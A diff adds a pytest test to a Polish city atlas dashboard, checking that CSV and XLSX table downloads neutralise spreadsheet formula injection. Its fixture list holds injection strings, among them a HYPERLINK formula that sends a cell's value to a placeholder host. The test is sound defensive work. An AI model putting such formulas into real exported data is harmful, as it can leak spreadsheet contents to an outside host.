@@ -108,3 +108,31 @@ def test_the_table_and_its_sorting_follow_polish_alphabetical_order(mini_atlas):
     assert names.index("Łódź") == names.index("Kwidzyn") + 1 and names[-1] == "Wrocław", names
     voivodeships = list(table_frame(mini_atlas, FilterState())["voivodeship"])
     assert voivodeships.index("łódzkie") < voivodeships.index("małopolskie") < voivodeships.index("pomorskie")
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A2,"Kliknij")', "+48 600 100 200", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("lang", ["pl", "en"])
+def test_no_text_of_the_data_runs_as_a_formula_in_the_downloads(mini_atlas, lang):
+    """A city or project named like a formula (an office's own data files) reaches an analyst's spreadsheet as the
+    same text, never as a formula: CSV with an apostrophe first (OWASP), XLSX as text cells; numbers stay numbers."""
+    import csv
+    import io
+
+    import openpyxl
+
+    from dashboard.view.table import CSV_FORMATS, table_csv, table_xlsx
+
+    frame = table_frame(mini_atlas, FilterState(lang=lang)).head(len(FORMULAS)).copy()
+    frame["name"] = FORMULAS
+    frame["projects"] = list(reversed(FORMULAS))
+    text = table_csv(frame, lang).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=CSV_FORMATS[lang]["sep"]))
+    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS]
+    assert [r[-1] for r in rows[1:]] == ["'" + f for f in reversed(FORMULAS)]
+    sheet = openpyxl.load_workbook(io.BytesIO(table_xlsx(frame, lang))).active
+    names = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
+    assert [(c.value, c.data_type) for c in names] == [(f, "s") for f in FORMULAS]
+    assert all(c.data_type == "n" for (c,) in sheet.iter_rows(min_row=2, min_col=6, max_col=6))
